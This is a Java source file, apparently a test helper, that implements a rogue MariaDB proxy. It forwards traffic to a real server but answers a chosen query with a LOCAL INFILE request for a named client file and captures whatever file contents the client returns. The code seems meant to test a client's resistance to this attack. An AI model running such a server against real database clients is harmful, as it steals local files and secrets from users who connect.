package org.lingqu.exchange.handover;

import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * What a consumer could put in the place of its MariaDB: passes everything on to a real one, but answers the n-th query of all with the server's
 * request for a local file of the client (LOCAL INFILE), and keeps what comes.
 */
final class LuringServer implements AutoCloseable {

    private static final int HEAD = 4;
    private static final int QUERY = 3;
    private static final int FILE_WANTED = 0xFB;
    private static final int PATIENCE = 2_000;

    private final ServerSocket door;
    private final int behind;
    private final byte[] wanted;
    private final AtomicInteger left;
    private final ByteArrayOutputStream caught = new ByteArrayOutputStream();
    private volatile String asked = "";

    /** @param query which one is answered so, from 1 */
    LuringServer(int behind, Path wanted, int query) throws IOException {
        this.door = new ServerSocket(0, 5, InetAddress.getLoopbackAddress());
        this.behind = behind;
        this.wanted = wanted.toString().getBytes(StandardCharsets.UTF_8);
        this.left = new AtomicInteger(query);
        start(this::accept);
    }

    int port() {
        return door.getLocalPort();
    }

    /** The query that was answered by asking for the file; empty while none was. */
    String asked() {
        return asked;
    }

    /** What came from the client after that, without the packets' heads. */
    String caught() {
        synchronized (caught) {
            return caught.toString(StandardCharsets.UTF_8);
        }
    }

    private void accept() {
        while (!door.isClosed()) {
            try {
                Socket client = door.accept();
                start(() -> serve(client));
            } catch (IOException closed) {
                return;
            }
        }
    }

    private void serve(Socket client) {
        try (client;
                Socket server = new Socket(InetAddress.getLoopbackAddress(), behind)) {
            start(() -> pass(server, client));
            DataInputStream in = new DataInputStream(client.getInputStream());
            OutputStream out = server.getOutputStream();
            while (true) {
                byte[] head = in.readNBytes(HEAD);
                if (head.length < HEAD) {
                    return;
                }
                byte[] body = in.readNBytes(length(head));
                boolean query = head[HEAD - 1] == 0 && body.length > 0 && body[0] == QUERY;
                if (query && left.decrementAndGet() == 0) {
                    lure(client, in, new String(body, 1, body.length - 1, StandardCharsets.UTF_8));
                    return;
                }
                out.write(head);
                out.write(body);
                out.flush();
            }
        } catch (IOException ended) {
            // by either side
        }
    }

    /** Takes what comes up to the empty packet that ends a file. */
    private void lure(Socket client, DataInputStream in, String query) throws IOException {
        asked = query;
        client.setSoTimeout(PATIENCE); // a client that stays silent sends nothing either
        OutputStream out = client.getOutputStream();
        out.write(new byte[] {(byte) (wanted.length + 1), 0, 0, 1, (byte) FILE_WANTED});
        out.write(wanted);
        out.flush();
        byte[] head = in.readNBytes(HEAD);
        while (head.length == HEAD && length(head) > 0) {
            byte[] body = in.readNBytes(length(head));
            synchronized (caught) {
                caught.write(body);
            }
            head = in.readNBytes(HEAD);
        }
    }

    private static int length(byte[] head) {
        return (head[0] & 0xFF) | (head[1] & 0xFF) << 8 | (head[2] & 0xFF) << 16;
    }

    private static void pass(Socket from, Socket to) {
        try {
            from.getInputStream().transferTo(to.getOutputStream());
            to.close();
        } catch (IOException ended) {
            // by either side
        }
    }

    private static void start(Runnable work) {
        Thread thread = new Thread(work, "luring-server");
        thread.setDaemon(true);
        thread.start();
    }

    @Override
    public void close() throws IOException {
        door.close();
    }
}
